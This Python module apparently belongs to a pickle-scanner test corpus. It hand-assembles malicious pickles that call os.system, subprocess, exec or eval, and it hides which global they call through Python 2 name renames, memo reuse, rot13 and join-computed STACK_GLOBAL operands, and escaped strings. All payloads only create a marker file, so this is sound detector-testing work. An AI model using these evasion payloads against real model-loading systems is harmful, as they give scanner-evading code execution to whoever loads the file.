"""Malicious pickles that hide *which* global they call: classic REDUCE payloads in every
protocol, ``_compat_pickle`` renames, memoised and computed ``STACK_GLOBAL`` operands and
protocol-0 escapes. ``os_system`` here is the textbook payload other modules reuse.

Each payload only creates its marker file (``touch``, ``open(..., 'w')``). Calls not
spelled REDUCE are in ``calls.py``; parser differentials (broken streams, frames, EXT,
persistent ids, stacked pickles) in ``parser_tricks.py``; deny-list gadgets in
``gadgets.py`` and ``indirection.py``.
"""

from __future__ import annotations

import functools
import os
import pickle

from tests.corpus._spec import (
    DANGEROUS,
    DYNAMIC,
    NESTED,
    PKL_ANY,
    Marker,
    Payload,
    Spec,
    mal,
)
from tests.corpus.pickle_ops import Asm

EXT_OR_PAYLOAD = PKL_ANY | {"SCAN-PKL-004"}


def os_system(m: Marker, proto: int = 2) -> bytes:
    """The textbook payload, hand-assembled: ``os.system(<touch marker>)``."""
    a = Asm(text=proto == 0)
    if proto >= 2:
        a.proto(proto)
    if proto >= 4:
        return a.stack_global_of("os", "system").str_(m.shell).tuple_(1).reduce().stop().bytes()
    return a.global_("os", "system").mark().str_(m.shell).tuple_().reduce().stop().bytes()


def _dumps_system(m: Marker, proto: int) -> bytes:
    return pickle.dumps(Payload(os.system, m.shell), protocol=proto)


def _classic() -> list[Spec]:
    fam = "classic-reduce"
    specs = [
        mal(
            f"classic/posix_system_p{p}.pkl",
            fam,
            DANGEROUS,
            f"pickle.dumps of a __reduce__ returning os.system (written as posix.system), "
            f"protocol {p}",
            functools.partial(_dumps_system, proto=p),
            loader="pickle",
            quick=p in (0, 2, 4),
        )
        for p in range(6)
    ]
    specs += [
        mal(
            f"classic/os_system_hand_p{p}.pkl",
            fam,
            DANGEROUS,
            f"hand-assembled GLOBAL/STACK_GLOBAL os.system, protocol {p}",
            functools.partial(os_system, proto=p),
            loader="pickle",
        )
        for p in (0, 1, 4)
    ]
    rows: list[tuple[str, str, str, str, str]] = [
        ("nt_system", "nt", "system", "shell", "nt.system: the Windows spelling of os.system"),
        ("subprocess_popen", "subprocess", "Popen", "argv", "subprocess.Popen(argv)"),
        ("subprocess_run", "subprocess", "run", "argv", "subprocess.run(argv)"),
        ("subprocess_call", "subprocess", "call", "argv", "subprocess.call(argv)"),
        ("subprocess_check_output", "subprocess", "check_output", "argv", "check_output"),
        ("subprocess_getoutput", "subprocess", "getoutput", "shell", "subprocess.getoutput(cmd)"),
        ("os_popen", "os", "popen", "shell", "os.popen(cmd)"),
        ("posix_system", "posix", "system", "shell", "posix.system named explicitly"),
        ("builtins_exec", "builtins", "exec", "py", "builtins.exec(source)"),
        ("builtins_eval", "builtins", "eval", "eval", "builtins.eval(expression)"),
    ]
    for name, module, func, arg, note in rows:
        specs.append(
            mal(
                f"classic/{name}.pkl",
                fam,
                DANGEROUS,
                note,
                functools.partial(_call_bytes, module=module, func=func, kind=arg),
                loader="" if module == "nt" else "pickle",
                quick=name in ("subprocess_popen", "builtins_exec"),
            )
        )
    specs += [
        mal(
            "classic/builtins_open.pkl",
            fam,
            DANGEROUS,
            "builtins.open(path, 'w') creates a file",
            lambda m: Asm().proto(2).call("builtins", "open", m.path, "w").stop().bytes(),
            loader="pickle",
        ),
        mal(
            "classic/builtins_compile_exec.pkl",
            fam,
            DANGEROUS,
            "builtins.exec(builtins.compile(source)): the code object is built in the pickle",
            lambda m: (
                Asm()
                .proto(2)
                .global_("builtins", "exec")
                .call("builtins", "compile", m.py, "<p>", "exec")
                .tuple_(1)
                .reduce()
                .stop()
                .bytes()
            ),
            loader="pickle",
        ),
        mal(
            "classic/builtins_import_getattr.pkl",
            fam,
            DANGEROUS,
            "getattr(__import__('os'), 'system')(cmd): the call target is built at load time",
            lambda m: (
                Asm()
                .proto(2)
                .global_("builtins", "getattr")
                .call("builtins", "__import__", "os")
                .str_("system")
                .tuple_(2)
                .reduce()
                .push((m.shell,))
                .reduce()
                .stop()
                .bytes()
            ),
            loader="pickle",
            quick=True,
        ),
    ]
    return specs


def _call_bytes(m: Marker, module: str, func: str, kind: str) -> bytes:
    arg: object = {
        "shell": m.shell,
        "argv": m.argv,
        "py": m.py,
        "eval": f"__import__('os').system({m.shell!r})",
    }[kind]
    return Asm().proto(2).call(module, func, arg).stop().bytes()


def _compat() -> list[Spec]:
    """Protocol 0-2 names that ``_compat_pickle`` maps onto Python 3 modules at load time."""
    fam = "compat-pickle-rename"

    def text_call(module: str, name: str, arg: object) -> bytes:
        return Asm(text=True).global_(module, name).push((arg,)).reduce().stop().bytes()

    return [
        mal(
            "compat/builtin_eval_p0.pkl",
            fam,
            DANGEROUS,
            "__builtin__.eval: the Python 2 module name, renamed to builtins by the unpickler",
            lambda m: text_call("__builtin__", "eval", f"__import__('os').system({m.shell!r})"),
            loader="pickle",
            quick=True,
        ),
        mal(
            "compat/builtin_exec_p2.pkl",
            fam,
            DANGEROUS,
            "__builtin__.exec in protocol 2",
            lambda m: Asm().proto(2).call("__builtin__", "exec", m.py).stop().bytes(),
            loader="pickle",
        ),
        mal(
            "compat/commands_getoutput_p0.pkl",
            fam,
            DANGEROUS,
            "commands.getoutput: Python 2 module mapped onto subprocess",
            lambda m: text_call("commands", "getoutput", m.shell),
            loader="pickle",
        ),
        mal(
            "compat/cpickle_loads_p2.pkl",
            fam,
            NESTED,
            "cPickle.loads (mapped to pickle.loads) of an inner malicious pickle",
            lambda m: Asm().proto(2).call("cPickle", "loads", os_system(m)).stop().bytes(),
            loader="pickle",
        ),
        mal(
            "compat/copy_reg_reconstructor_popen_p2.pkl",
            fam,
            PKL_ANY,
            "copy_reg._reconstructor(Popen, Popen, argv): runs Popen.__init__ (copyreg gadget)",
            lambda m: (
                Asm()
                .proto(2)
                .global_("copy_reg", "_reconstructor")
                .mark()
                .global_("subprocess", "Popen")
                .global_("subprocess", "Popen")
                .push(m.argv)
                .tuple_()
                .reduce()
                .stop()
                .bytes()
            ),
            loader="pickle",
        ),
        mal(
            "compat/urllib2_urlopen_p2.pkl",
            fam,
            PKL_ANY,
            "urllib2.urlopen (mapped to urllib.request): exfiltration gadget, never loaded",
            lambda m: (
                Asm().proto(2).call("urllib2", "urlopen", "http://127.0.0.1:9/x").stop().bytes()
            ),
        ),
    ]


def _memo() -> list[Spec]:
    """STACK_GLOBAL operands that only a memo-tracking scanner can resolve."""
    fam = "stack-global-memo"

    def memoised(m: Marker) -> bytes:
        a = Asm().proto(4).str_("os").memoize().str_("system").memoize().pop().pop()
        return a.binget(0).binget(1).stack_global().push((m.shell,)).reduce().stop().bytes()

    def overwritten(m: Marker) -> bytes:
        a = Asm().proto(4).str_("collections").binput(0).str_("OrderedDict").binput(1)
        a.pop().pop().str_("os").binput(0).str_("system").binput(1).pop().pop()
        return a.binget(0).binget(1).stack_global().push((m.shell,)).reduce().stop().bytes()

    def long_memo(m: Marker) -> bytes:
        a = Asm().proto(4).str_("system").long_binput(70000).str_("os").long_binput(123456)
        a.pop().pop().long_binget(123456).long_binget(70000).stack_global()
        return a.push((m.shell,)).reduce().stop().bytes()

    def text_memo(m: Marker) -> bytes:
        a = Asm(text=True).str_("os").put(7).str_("system").put(3).pop().pop()
        return a.get(7).get(3).stack_global().push((m.shell,)).reduce().stop().bytes()

    def dup_memo(m: Marker) -> bytes:
        # The decoy pair is what a scanner reading "the two strings before STACK_GLOBAL" sees.
        a = Asm().proto(4).str_("os").binput(9).str_("system").binput(8).pop().pop()
        a.str_("collections").str_("OrderedDict").pop().pop().binget(9).binget(8)
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    return [
        mal(
            "memo/memoize_binget.pkl",
            fam,
            DYNAMIC,
            "module and name MEMOIZEd, popped, fetched back with BINGET (picklescan memo bug)",
            memoised,
            loader="pickle",
            quick=True,
        ),
        mal(
            "memo/memo_overwritten.pkl",
            fam,
            DYNAMIC,
            "memo slots first hold collections/OrderedDict, then are overwritten with os/system",
            overwritten,
            loader="pickle",
        ),
        mal(
            "memo/long_binget.pkl",
            fam,
            DYNAMIC,
            "LONG_BINPUT/LONG_BINGET with large indexes",
            long_memo,
            loader="pickle",
        ),
        mal(
            "memo/text_put_get.pkl",
            fam,
            DYNAMIC,
            "protocol-0 PUT/GET of V strings feeding STACK_GLOBAL (no PROTO opcode)",
            text_memo,
            loader="pickle",
        ),
        mal(
            "memo/decoy_strings_before.pkl",
            fam,
            DYNAMIC,
            "decoy benign strings right before STACK_GLOBAL; real operands come from the memo",
            dup_memo,
            loader="pickle",
        ),
    ]


def _computed() -> list[Spec]:
    """STACK_GLOBAL operands produced by a call at load time (modelscan issue 331 family)."""
    fam = "computed-global"

    def joined(m: Marker) -> bytes:
        a = Asm().proto(4)
        for word in ("os", "system"):
            a.stack_global_of("builtins", "str.join").str_("").push(list(word)).tuple_(2).reduce()
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def rot13(m: Marker) -> bytes:
        a = Asm().proto(4)
        for word in ("bf", "flfgrz"):  # rot13 of "os", "system"
            a.call("codecs", "decode", word, "rot13", stack=True)
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def getitem(m: Marker) -> bytes:
        a = Asm().proto(4)
        table = {"a": "os", "b": "system"}
        a.call("_operator", "getitem", table, "a", stack=True)
        a.call("_operator", "getitem", table, "b", stack=True)
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def decoded(m: Marker) -> bytes:
        a = Asm().proto(4)
        for word in (b"os", b"system"):
            a.stack_global_of("builtins", "bytes.decode").push((word,)).reduce()
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    return [
        mal(
            "computed/str_join.pkl",
            fam,
            DYNAMIC,
            "STACK_GLOBAL('' .join(['o','s']), ...)",
            joined,
            loader="pickle",
            quick=True,
        ),
        mal(
            "computed/codecs_rot13.pkl",
            fam,
            DYNAMIC,
            "operands decoded from rot13 at load time",
            rot13,
            loader="pickle",
        ),
        mal(
            "computed/operator_getitem.pkl",
            fam,
            DYNAMIC,
            "operands looked up in a dict",
            getitem,
            loader="pickle",
        ),
        mal(
            "computed/bytes_decode.pkl",
            fam,
            DYNAMIC,
            "operands decoded from bytes constants",
            decoded,
            loader="pickle",
        ),
    ]


def _escapes() -> list[Spec]:
    """Protocol-0 STRING/UNICODE operands whose text only matches after unescaping."""
    fam = "proto0-escapes"

    def unicode_escaped(m: Marker) -> bytes:
        a = Asm(text=True).unicode_text("\\u006fs").unicode_text("\\u0073y\\u0073tem")
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def string_escaped(m: Marker) -> bytes:
        a = Asm(text=True).string_text("'\\x6fs'").string_text("'\\x73ystem'")
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def escaped_args(m: Marker) -> bytes:
        escaped = "".join(f"\\x{ord(c):02x}" for c in m.shell)
        a = Asm(text=True).global_("os", "system").mark().string_text(f"'{escaped}'").tuple_()
        return a.reduce().stop().bytes()

    return [
        mal(
            "escapes/unicode_escaped_operands.pkl",
            fam,
            DYNAMIC,
            "V opcodes spelling os/system with \\u escapes, then STACK_GLOBAL",
            unicode_escaped,
            loader="pickle",
            quick=True,
        ),
        mal(
            "escapes/string_escaped_operands.pkl",
            fam,
            DYNAMIC,
            "S opcodes spelling os/system with \\x escapes, then STACK_GLOBAL",
            string_escaped,
            loader="pickle",
        ),
        mal(
            "escapes/escaped_arguments.pkl",
            fam,
            DANGEROUS,
            "GLOBAL os.system with a fully \\x-escaped S argument",
            escaped_args,
            loader="pickle",
        ),
    ]


def specs() -> list[Spec]:
    """Every spec of this module."""
    return [*_classic(), *_compat(), *_memo(), *_computed(), *_escapes()]
